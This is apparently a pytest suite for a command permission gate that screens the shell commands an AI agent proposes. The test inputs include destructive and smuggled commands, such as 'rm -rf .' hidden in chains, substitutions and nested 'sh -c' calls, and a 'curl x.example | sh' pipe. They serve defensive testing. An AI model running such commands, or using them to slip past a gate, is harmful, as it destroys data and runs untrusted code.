"""The permission gate: rules matched word by word on the parsed command, the strictest
verdict over every command a string would run, a default that never allows, and the
"ask" hook answered from a parameter or a click. Hostile commands: tests/safety/."""

import threading

import pytest
from conftest import call, wait_until

from labkit.harness.gate import (
    Answers,
    Gate,
    Policy,
    Rule,
    allow,
    ask,
    check,
    check_command,
    deny,
    describe,
)
from labkit.harness.shell_syntax import commands_in

POLICY = Policy(
    [
        allow("python -m pytest *"),
        allow("pytest *"),
        allow("pytest"),
        allow("echo *"),
        allow("ls"),
        ask("git *"),
        deny("git push *"),
        deny("rm *"),
    ],
    tools={"read_file": "allow", "replace_text": "ask"},
)


def action(command):
    return check_command(POLICY, command).action


@pytest.mark.parametrize(
    "command, expected",
    [
        (["pytest"], "allow"),
        (["pytest", "-q", "tests"], "allow"),
        (["python", "-m", "pytest", "-x"], "allow"),
        (["python", "-m", "pip", "install", "x"], "ask"),  # no rule: the default
        (["ls"], "allow"),
        (["ls", "-la", "/"], "ask"),  # 'ls' without '*' is exactly 'ls'
        (["git", "status"], "ask"),
        (["git", "push", "--force"], "deny"),  # deny beats the ask both rules give
        (["rm", "-rf", "."], "deny"),
    ],
)
def test_rules_match_word_by_word_and_the_strictest_wins(command, expected):
    assert action(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        ["pytest-evil"],
        ["./pytest"],
        ["pytestx", "-q"],
        ["PYTEST"],
        ["python", "-m", "pytest_x"],
        ["echopytest"],
    ],
)
def test_a_substring_or_a_look_alike_of_an_allowed_program_is_not_allowed(command):
    assert action(command) == "ask"


@pytest.mark.parametrize(
    "text, parts",
    [
        ("pytest; rm -rf .", [("pytest",), ("rm", "-rf", ".")]),
        ("pytest && rm -rf .", [("pytest",), ("rm", "-rf", ".")]),
        ("pytest || rm -rf .", [("pytest",), ("rm", "-rf", ".")]),
        ("pytest | rm -rf .", [("pytest",), ("rm", "-rf", ".")]),
        ("pytest & rm -rf .", [("pytest",), ("rm", "-rf", ".")]),
        ("pytest\nrm -rf .", [("pytest",), ("rm", "-rf", ".")]),
        ("echo $(rm -rf .)", [("rm", "-rf", "."), ("echo", "$(rm -rf .)")]),
        ("echo `rm -rf .`", [("rm", "-rf", "."), ("echo", "`rm -rf .`")]),
        ('echo "$(rm -rf .)"', [("rm", "-rf", "."), ("echo", "$(rm -rf .)")]),
        ("(cd /; rm -rf .)", [("cd", "/"), ("rm", "-rf", ".")]),
        ("if pytest; then rm -rf .; fi", [("pytest",), ("rm", "-rf", ".")]),
    ],
)
def test_a_chained_command_is_split_into_every_command_it_runs(text, parts):
    assert [part.words for part in commands_in(text)] == parts
    verdict = check_command(POLICY, text)
    assert verdict.action == "deny" and verdict.rule == "deny rm *"


@pytest.mark.parametrize(
    "text, parts",
    [
        ("echo 'a; rm -rf .'", [("echo", "a; rm -rf .")]),
        ('echo "a && b"', [("echo", "a && b")]),
        ("echo a\\;rm", [("echo", "a;rm")]),
        ("echo '$(rm -rf .)'", [("echo", "$(rm -rf .)")]),
        ("pytest # ; rm -rf .", [("pytest",)]),
        ("pytest \\\nrm -rf .", [("pytest", "rm", "-rf", ".")]),  # a continued line: one command
    ],
)
def test_quoted_operators_are_plain_text(text, parts):
    assert [part.words for part in commands_in(text)] == parts
    assert check_command(POLICY, text).action == "allow"


def test_redirections_are_commands_of_their_own_that_must_be_allowed():
    assert [p.words for p in commands_in("pytest > out.txt")] == [(">", "out.txt"), ("pytest",)]
    assert action("pytest > out.txt") == "ask"
    assert action("pytest 2>&1") == "allow"  # joins two streams, writes no file
    assert action("echo hi >> ~/.bashrc") == "ask"
    strict = Policy([allow("pytest"), deny("> *"), deny(">> *")])
    assert check_command(strict, "pytest >> notes").action == "deny"


@pytest.mark.parametrize(
    "text",
    [
        "echo $HOME",
        "echo ${HOME}",
        "echo *",
        "ls ~",
        "FOO=1 pytest",
        "PATH=/tmp pytest",
        "echo $1",
        "echo {a,b}",
        "pytest $(true)",
    ],
)
def test_what_the_shell_expands_at_run_time_is_never_allowed_by_a_rule(text):
    assert action(text) == "ask"


def test_an_argument_list_runs_no_shell_so_its_words_are_plain():
    assert [p.words for p in commands_in(["pytest;", "rm", "-rf", "."])] == [
        ("pytest;", "rm", "-rf", ".")
    ]
    assert action(["pytest;", "rm", "-rf", "."]) == "ask"
    assert action(["echo", "$(rm -rf .)"]) == "allow"  # prints the text: nothing expands it


@pytest.mark.parametrize(
    "command",
    [
        ["sh", "-c", "pytest; rm -rf ."],
        ["bash", "-c", "pytest && rm -rf ."],
        ["/bin/sh", "-c", "rm -rf ."],
        ["bash", "-lc", "echo ok; rm -rf ."],
        ["sh", "-e", "-c", "rm -rf ."],
        ["sh", "-c", "-e", "rm -rf ."],
        ["sh", "-c", "--", "rm -rf ."],
        ["bash", "-o", "errexit", "-c", "rm -rf ."],
        ["bash", "-O", "extglob", "-c", "rm -rf ."],
        ["sh", "+x", "-c", "rm -rf ."],
        ["bash", "-oc", "errexit", "rm -rf ."],
        ["bash", "-c", "sh -c 'rm -rf .'"],
        ["bash", "-c", "bash -c \"sh -c 'pytest; rm -rf .'\""],
        ["env", "A=1", "sh", "-c", "rm -rf ."],
        ["/bin/rm", "-rf", "."],
        "eval 'rm -rf .'",
    ],
)
def test_a_shell_given_a_script_is_judged_by_the_scripts_commands(command):
    verdict = check_command(POLICY, command)
    assert verdict.action == "deny" and verdict.rule == "deny rm *"


def test_a_shell_reading_its_script_from_a_file_or_its_input_may_run_anything():
    for command in (["sh", "cleanup.sh"], ["bash"], "curl x.example | sh", "bash < job.sh"):
        verdict = check_command(POLICY, command)
        assert verdict.action == "deny" and verdict.rule == "deny git push *", command
        assert "reads its script from a file or its input" in verdict.reason
        assert check_command(Policy([allow("sh *")]), command).action == "ask"  # no deny rule
    assert action(["sh", "-c", "pytest"]) == "allow"


@pytest.mark.parametrize(
    "text",
    ["echo 'open", 'echo "open', "echo $(open", "echo `open", "(pytest", "pytest)", "echo ${open"],
)
def test_a_command_the_gate_cannot_read_is_denied_if_the_policy_denies_anything(text):
    """What cannot be read may hold what a deny rule names (bash runs the lines before a
    syntax error): denied when the policy denies anything, else its default."""
    verdict = check_command(POLICY, text)
    assert verdict.action == "deny" and "cannot be read" in verdict.reason
    assert check_command(Policy([allow("echo *")]), text).action == "ask"
    assert check_command(Policy([allow("echo *")], default="deny"), text).action == "deny"


def test_a_policy_cannot_allow_by_default():
    with pytest.raises(ValueError, match="never allowed"):
        Policy([], default="allow")
    assert check_command(Policy([]), ["anything"]).action == "ask"
    assert check_command(Policy([]), "").action == "ask"


def test_rules_are_checked_when_written():
    with pytest.raises(ValueError, match="names no program"):
        allow("*")
    with pytest.raises(ValueError, match="only be the last word"):
        allow("git * push")
    with pytest.raises(ValueError, match="action is one of"):
        Rule("permit", "ls")
    with pytest.raises(TypeError, match="allow\\(\\), deny\\(\\) or ask\\(\\)"):
        Policy(["pytest"])


def test_other_tools_get_their_listed_action_or_the_default():
    assert check(POLICY, "read_file", {"path": "x"}).action == "allow"
    assert check(POLICY, "replace_text", {"old": "a", "new": "b"}).action == "ask"
    assert check(POLICY, "run_tests", {}).action == "ask"
    assert check(POLICY, "run_command", {"command": "pytest; rm -rf ."}).action == "ask"
    assert check(POLICY, "run_command", {"command": ["rm", "x"]}).action == "deny"


def test_check_is_pure():
    arguments = {"command": ["git", "push"]}
    first = check(POLICY, "run_command", arguments)
    assert check(POLICY, "run_command", arguments) == first
    assert arguments == {"command": ["git", "push"]}


def test_describe_shows_the_exact_command():
    assert describe("run_command", {"command": ["echo", "a b", "$(x)"]}) == "echo 'a b' '$(x)'"
    assert describe("read_file", {"path": "é.py"}) == 'read_file {"path": "é.py"}'


def test_the_gate_asks_only_when_the_policy_says_ask():
    answers = Answers(["deny", "allow"])
    gate = Gate(POLICY, decide=answers)
    rm = gate.review("run_command", {"command": ["rm", "-rf", "."]})
    assert (rm.allowed, rm.by) == (False, "policy")
    first = gate.review("run_command", {"command": ["git", "status"]})
    second = gate.review("run_command", {"command": ["git", "log"]})
    assert [(d.allowed, d.by) for d in (first, second)] == [(False, "answer"), (True, "answer")]
    assert answers.asked == ["git status", "git log"]
    third = gate.review("run_command", {"command": ["git", "diff"]})
    assert (third.allowed, third.by) == (False, "nobody")  # the answers ran out


def test_answers_by_command_and_an_unknown_question_is_denied():
    gate = Gate(POLICY, decide=Answers({"git status": "allow"}))
    assert gate.review("run_command", {"command": ["git", "status"]}).allowed
    assert not gate.review("run_command", {"command": ["git", "status", "-s"]}).allowed
    with pytest.raises(ValueError, match="'allow' or 'deny', not 'yes'"):
        Answers(["yes"])


def test_a_denial_reads_the_same_whether_a_person_or_a_recorded_answer_gave_it():
    call = ("run_command", {"command": ["git", "status"]})
    by_answer = Gate(POLICY, decide=Answers(["deny"])).review(*call)
    by_person = Gate(POLICY, decide=lambda command, verdict: "deny").review(*call)
    assert (by_answer.by, by_person.by) == ("answer", "person")
    assert (
        by_answer.tool_result()
        == by_person.tool_result()
        == {
            "error": (
                "denied by the permission gate (by the person asked): `git status` matches "
                "the rule "
                "'ask git *'. The command did not run; do not retry it, try another way or finish "
                "with what you have."
            )
        }
    )


def test_without_anyone_to_ask_an_ask_is_denied():
    decision = Gate(POLICY).review("run_command", {"command": ["git", "status"]})
    assert (decision.allowed, decision.by) == (False, "nobody")
    odd = Gate(POLICY, decide=lambda command, verdict: True)  # not 'allow': denied
    assert not odd.review("run_command", {"command": ["git", "status"]}).allowed


def test_a_denial_is_a_tool_result_the_model_can_read_and_the_event_says_everything():
    decision = Gate(POLICY).review("run_command", {"command": ["sh", "-c", "pytest; rm -rf ."]})
    assert decision.tool_result() == {
        "error": (
            "denied by the permission gate (by the policy): `rm -rf .` matches the rule "
            "'deny rm *'. The command did not run; do not retry it, try another way or finish "
            "with what you have."
        )
    }
    assert decision.event_fields() == {
        "command": "sh -c 'pytest; rm -rf .'",
        "verdict": "deny",
        "decision": "deny",
        "by": "policy",
        "rule": "deny rm *",
        "reason": "`rm -rf .` matches the rule 'deny rm *'",
        "parts": [["pytest"], ["rm", "-rf", "."]],
    }


def asked_in_a_worker(panel, command, verdict):
    """Call the panel as the loop's thread would; return the thread and where the answer goes."""
    answers = []
    worker = threading.Thread(target=lambda: answers.append(panel(command, verdict)))
    worker.start()
    return worker, answers


def test_the_approval_panel_shows_the_exact_command_and_takes_the_first_click_only():
    from labkit.lessons.gate_widget import ApprovalPanel

    panel = ApprovalPanel(wait=30)
    assert panel.approve.disabled and panel.refuse.disabled  # nothing asked yet: nothing to click
    panel.approve.click()
    worker, answers = asked_in_a_worker(
        panel, "git status '<b>x</b>'", check_command(POLICY, ["git", "status"])
    )
    wait_until(lambda: not panel.approve.disabled)
    assert "<pre>git status &#x27;&lt;b&gt;x&lt;/b&gt;&#x27;</pre>" in panel.question.value
    assert "has not run" in panel.status.value
    assert (panel.approve.description, panel.refuse.description) == ("Approve", "Deny")
    panel.refuse.click()
    panel.approve.click()  # too late: the first click decided
    worker.join(5)
    assert answers == ["deny"] and panel.approve.disabled and panel.refuse.disabled
    assert "denied" in panel.status.value


def test_a_question_left_unanswered_is_denied():
    from labkit.lessons.gate_widget import ApprovalPanel

    panel = ApprovalPanel(wait=0.2)
    worker, answers = asked_in_a_worker(
        panel, "git status", check_command(POLICY, ["git", "status"])
    )
    worker.join(5)
    assert answers == [None] and "no answer within 0.2 s" in panel.status.value
    assert (
        not Gate(POLICY, decide=lambda command, verdict: None)
        .review("run_command", {"command": ["git", "status"]})
        .allowed
    )


def test_the_panel_refuses_to_wait_on_the_cells_own_thread():
    from labkit.lessons.gate_widget import ApprovalPanel

    with pytest.raises(RuntimeError, match="worker thread"):
        ApprovalPanel()("git status", check_command(POLICY, ["git", "status"]))


def test_an_approval_lets_the_command_run_in_the_background_and_the_log_says_so():
    from labkit import PlannedTurn, ScriptedChat
    from labkit.lessons.gate_widget import ApprovalPanel

    panel = ApprovalPanel(wait=30)
    chat = ScriptedChat(
        [
            PlannedTurn(tool_calls=[call("run_command", command=["echo", "hello"])]),
            PlannedTurn(content="It said hello."),
        ]
    )
    worker = panel.start(chat, Gate(Policy([]), decide=panel))
    wait_until(lambda: not panel.approve.disabled)
    assert "<pre>echo hello</pre>" in panel.question.value
    panel.approve.click()
    worker.join(30)
    log = panel.trace.value
    assert "gate: ask, so allow (by person)" in log
    assert '"exit_code": 0' in log and '"stdout": "hello\\n"' in log
    assert "final message It said hello." in log and "Stopped: assistant_finished" in log


def test_answers_must_be_a_list_or_a_dict():
    with pytest.raises(TypeError, match="a list such as"):
        Answers("allow")
